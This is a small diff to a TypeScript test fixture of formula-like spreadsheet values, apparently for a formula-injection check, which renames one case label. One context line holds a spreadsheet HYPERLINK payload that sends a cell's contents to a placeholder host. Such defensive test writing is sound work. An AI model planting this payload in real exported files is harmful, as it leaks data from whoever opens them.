@@ -29,7 +29,7 @@ const FORMULA_LIKE: readonly AwkwardOrder[] = [
   name('full-width @', '＠SUM(A1:A9)'),
   name('formula that sends data out', '=HYPERLINK("http://example.com?x="&A1,"click")'),
   name('formula after a space', ' =1+1'),
-  name('no formula: starts with an apostrophe', "'=1+1"),
+  name('not a formula: starts with an apostrophe', "'=1+1"),
   note('only a minus', '-'),
 ];
 
